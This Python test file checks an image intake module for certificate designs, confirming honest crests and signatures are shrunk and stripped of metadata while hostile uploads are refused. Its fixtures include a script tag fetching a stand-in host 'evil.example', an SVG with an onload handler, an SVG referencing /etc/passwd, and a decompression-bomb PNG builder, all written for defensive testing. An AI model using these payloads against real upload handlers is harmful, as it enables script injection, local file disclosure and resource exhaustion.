"""Pictures of a design as they come in: honest ones made small, hostile ones refused, nothing kept but points."""

import io
import struct
import zlib
from typing import Any

import pytest
from PIL import Image, ImageDraw

from pme.certificates.designs.pictures import HEAVIEST, take_picture, taken
from pme.certificates.press.raster import Raster
from pme.intake.bounded import NotTaken
from pme.intake.made import Made, Refused
from tests.support.designs import as_file, crest, written

CHUNKS = {b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"}
SECRET = b"<script>fetch('http://evil.example')</script>PK\x03\x04"


def made_of(body: bytes, kind: str = "crest") -> Image.Image:
    made: Made = take_picture(body, {"kind": kind})
    assert chunks(made.bodies[0]) <= CHUNKS
    image = Image.open(io.BytesIO(made.bodies[0]))
    assert image.size == (made.told["width"], made.told["height"])
    assert Raster(made.bodies[0]).weight <= HEAVIEST[kind]
    return image


def chunks(png: bytes) -> set[bytes]:
    found, at = set(), 8
    while at < len(png):
        found.add(png[at + 4 : at + 8])
        at += 12 + int.from_bytes(png[at : at + 4], "big")
    return found


def bomb(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it is so large."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 10_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def refused(body: bytes, kind: str = "crest") -> str:
    with pytest.raises(Refused) as raised:
        take_picture(body, {"kind": kind})
    return str(raised.value)


def test_a_crest_keeps_its_clear_ground_and_loses_the_margin_around_it():
    image = made_of(as_file(crest(2_000)))
    assert image.mode == "RGBA"
    assert image.size[1] <= 420
    assert image.getchannel("A").getbbox() == (0, 0, *image.size)


def test_a_photograph_of_noise_is_made_small_enough_for_every_certificate():
    noise = Image.effect_noise((1_200, 900), 90).convert("RGB")
    made_of(as_file(noise, "JPEG", quality=95))


def test_a_facsimile_is_its_ink_alone_on_nothing():
    image = made_of(as_file(written(), "JPEG"), "facsimile")
    clear, inked = image.getchannel("A").histogram()[0], image.getchannel("A").histogram()[255]
    assert clear > inked > 0
    pixel: Any = image.getpixel((0, 0))
    assert pixel[2] > pixel[0]
    assert pixel[2] > pixel[1]


@pytest.mark.parametrize("ground", ["black", "white"])
def test_what_is_no_ink_on_paper_is_no_facsimile(ground: str):
    assert "dark ink on light paper" in refused(as_file(Image.new("RGB", (300, 100), ground)), "facsimile")


def test_where_a_picture_was_taken_and_what_else_it_carries_is_not_kept():
    image, exif = Image.new("RGB", (200, 200), "#5a1a2b"), Image.Exif()
    exif[0x010F], exif[0x8825] = "SECRET camera", {1: "N", 2: (59.0, 20.0, 1.0)}
    ImageDraw.Draw(image).ellipse((20, 20, 180, 180), fill="#e9d9a8")
    for body in (as_file(image, "JPEG", exif=exif, comment=b"SECRET"), as_file(image) + SECRET):
        made = take_picture(body, {"kind": "crest"}).bodies[0]
        assert b"SECRET" not in made
        assert b"script" not in made
        assert b"PK\x03\x04" not in made


@pytest.mark.parametrize(
    ("body", "says"),
    [
        (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "export it as PNG"),
        (b"\n<SVG><image href='file:///etc/passwd'/></SVG>", "export it as PNG"),
        (as_file(Image.new("RGB", (9, 9)), "GIF"), "PNG or JPEG"),
        (as_file(Image.new("RGB", (9, 9)), "WEBP"), "PNG or JPEG"),
        (b"%PDF-1.7", "PNG or JPEG"),
        (b"\x89PNG\r\n\x1a\nnothing more", "cannot be read"),
        (as_file(crest())[:900], "cannot be read"),
        (bomb(50_000, 50_000), "million pixels"),
        (bomb(6_000, 6_000), "cannot be read"),
        (as_file(Image.new("RGBA", (50, 50), (0, 0, 0, 0))), "nothing to see"),
    ],
)
def test_what_is_no_honest_picture_is_refused_in_a_sentence(body: bytes, says: str):
    assert says in refused(body)


def test_pictures_are_read_in_the_bounded_child():
    safe = taken(io.BytesIO(as_file(crest())), "crest")
    assert Image.open(io.BytesIO(safe.png)).size == (safe.width, safe.height)
    with pytest.raises(NotTaken, match="export it as PNG"):
        taken(io.BytesIO(b"<svg/>"), "crest")
    with pytest.raises(NotTaken, match="larger than 5 MB"):
        taken(io.BytesIO(b"\0" * 5_000_001), "crest")


def test_the_press_takes_no_picture_with_too_many_points():
    image: Any = Image.new("1", (1_001, 1_000))
    with pytest.raises(ValueError, match="too many points"):
        Raster(as_file(image))
